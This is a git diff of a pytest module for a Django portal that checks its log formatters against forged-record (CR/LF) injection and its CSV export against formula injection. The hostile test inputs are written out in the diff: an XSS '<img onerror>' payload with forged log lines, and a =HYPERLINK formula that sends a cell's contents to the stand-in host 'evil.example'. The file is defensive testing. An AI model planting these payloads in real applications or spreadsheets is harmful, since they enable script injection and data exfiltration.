@@ -14,9 +14,9 @@ import sys
 from typing import Any
 
 import pytest
+from django.conf import settings
 from django.test import Client
-
-from alm_portal.middleware import RequestIdLogFilter
+from django.utils.module_loading import import_string
 
 pytestmark = pytest.mark.django_db
 
@@ -28,12 +28,24 @@ PAYLOAD = f"Looks fine\r\n{FORGED}\n{SCRIPT}<img src=x onerror=alert(2)>"
 FORMULA_NAME = '=HYPERLINK("http://evil.example/"&A1,"click")\r\nMallory <b>bold</b>'
 
 
-def project_formatter() -> logging.Formatter:
-    """The formatter of the handler the project's LOGGING puts on the root logger."""
-    for handler in logging.getLogger().handlers:
-        if any(isinstance(item, RequestIdLogFilter) for item in handler.filters) and handler.formatter:
-            return handler.formatter
-    raise AssertionError("the project's console handler is not installed")
+def project_formatters() -> dict[str, logging.Formatter]:
+    """Every formatter the project's LOGGING defines (the console handler uses one of them)."""
+    made = {}
+    for name, config in settings.LOGGING["formatters"].items():
+        options = dict(config)
+        factory = import_string(options.pop("()", None) or options.pop("class", "logging.Formatter"))
+        if "format" in options:
+            options["fmt"] = options.pop("format")
+        made[name] = factory(**options)
+    return made
+
+
+def assert_one_record(text: str) -> None:
+    """What a formatter wrote for one record cannot be read as more than one: no CR, and any further
+    physical line is an indented continuation (a record starts at the first column)."""
+    assert "\r" not in text and "\u2028" not in text, text
+    for line in text.split("\n")[1:]:
+        assert line[:1].isspace(), f"a line that could pass for a record: {line!r}"
 
 
 @pytest.fixture
@@ -140,33 +152,38 @@ def test_the_csv_audit_export_neutralises_formulas_and_keeps_rows_intact(
     assert any(PAYLOAD in cell for cell in cells)  # comments survive as data
 
 
-def test_no_log_record_can_forge_a_second_line(hostile_flows: dict[str, Any], caplog: pytest.LogCaptureFixture) -> None:
-    formatter = project_formatter()
-    lines = []
+@pytest.mark.parametrize("format_name", sorted(settings.LOGGING["formatters"]))
+def test_no_log_record_can_forge_a_second_line(
+    hostile_flows: dict[str, Any], caplog: pytest.LogCaptureFixture, format_name: str
+) -> None:
+    formatter = project_formatters()[format_name]
+    written = []
     for record in caplog.get_records("setup") + caplog.get_records("call"):
-        if not hasattr(record, "request_id"):
-            record.request_id = "-"
-        lines.append(formatter.format(record))
+        for attribute in ("request_id", "job_id"):
+            if not hasattr(record, attribute):
+                setattr(record, attribute, "-")
+        written.append(formatter.format(record))
 
-    assert lines, "the flows logged nothing"
-    for line in lines:
-        assert "\n" not in line and "\r" not in line, line
-    # The forged text is there, on the line of the record that carried it, escaped.
-    assert any("environments.notifications" in line and "fine\\r\\n" + FORGED in line for line in lines)
-    assert any("Not Found: /nope\\r\\n" + FORGED in line for line in lines)
+    assert written, "the flows logged nothing"
+    for text in written:
+        assert_one_record(text)
+    # The forged text is there, inside the record that carried it (escaped as the format escapes).
+    assert any("environments.notifications" in text and FORGED in text for text in written)
+    assert any("Not Found: /nope" in text and FORGED in text for text in written)
 
 
-def test_the_formatter_keeps_even_a_traceback_on_its_record_line() -> None:
-    formatter = project_formatter()
+@pytest.mark.parametrize("format_name", sorted(settings.LOGGING["formatters"]))
+def test_a_traceback_cannot_forge_a_record_either(format_name: str) -> None:
+    formatter = project_formatters()[format_name]
     try:
         raise ValueError(f"bad name {PAYLOAD}")
     except ValueError:
         record = logging.getLogger("tests").makeRecord(
             "tests", logging.ERROR, __file__, 1, "failed for %s", (PAYLOAD,), sys.exc_info()
         )
-    record.request_id = "req-1"
+    record.request_id, record.job_id = "req-1", "-"
 
-    line = formatter.format(record)
+    text = formatter.format(record)
 
-    assert "\n" not in line and "\r" not in line and "\u2028" not in line
-    assert "Traceback" in line and "\\r\\n" + FORGED in line
+    assert "Traceback" in text and FORGED in text
+    assert_one_record(text)
